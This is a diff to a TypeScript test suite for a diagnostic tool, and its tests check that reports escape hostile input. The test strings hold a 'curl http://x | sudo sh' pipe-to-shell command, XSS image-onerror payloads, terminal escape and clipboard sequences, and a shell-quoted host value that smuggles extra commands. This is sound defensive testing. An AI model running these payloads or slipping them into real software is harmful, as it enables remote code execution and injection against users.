@@ -50,9 +50,10 @@ const kb = kbOf({
       },
       evidence: [{ hypothesis: 'app.injected', cf: 0.6 }],
     },
-    { id: 'port', description: 'the usual port', conditions: { all: [{ fact: 'target.port', operator: 'equal', value: 443 }] }, evidence: [{ hypothesis: 'app.injected', cf: 0.3 }] },
+    // A fact the target URL does not state (its port it does), so the question stays missing.
+    { id: 'status', description: 'the usual status', conditions: { all: [{ fact: 'http.status', operator: 'equal', value: 503 }] }, evidence: [{ hypothesis: 'app.injected', cf: 0.3 }] },
   ],
-  questions: [{ fact: 'target.port', effort: 'low', text: 'Which port?', how: 'ss -tn dst {{target.host}}' }],
+  questions: [{ fact: 'http.status', effort: 'low', text: 'Which status?', how: 'ss -tn dst {{target.host}}' }],
 });
 
 const run = (input: typeof hostile) => diagnose(kb, input.facts, { summary: input.summary, warnings: [{ field: 'target.url', message: input.warning }] });
@@ -77,7 +78,7 @@ describe('reports show hostile values as text in every format', () => {
     expect(html).toContain('<strong>Summary:</strong> loss\\n## Fake heading\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\n&lt;img src=x onerror=alert(1)&gt;</p>');
     expect(html).toContain('(actual: http://x/|a|b\\n**Next checks**\\n\\n```sh\\ncurl http://x | sudo sh\\n```\\x1b[2K)');
     expect(html).toContain('(actual: java\\x1b]52;c;Y3VybCBodHRwOi8veCB8IHN1ZG8gc2g=\\x07\\u202e\\x9b31m&lt;img src=x onerror=alert(1)&gt; | `x`)');
-    expect(bad).toContain("- `target.port`: Which port? — ``` ss -tn dst $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading' ```");
+    expect(bad).toContain("- `http.status`: Which status? — ``` ss -tn dst $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading' ```");
     expect(bad).toContain("```sh\ndig $'h`o``st|x <img src=x onerror=alert(1)>\\n## Fake heading'\n```\n");
     expect(bad).toContain('> - `target.url`: ignored\\n\\#\\# Fake heading \\<img src=x onerror=alert(1)\\>\\x1b\\[2K');
   });
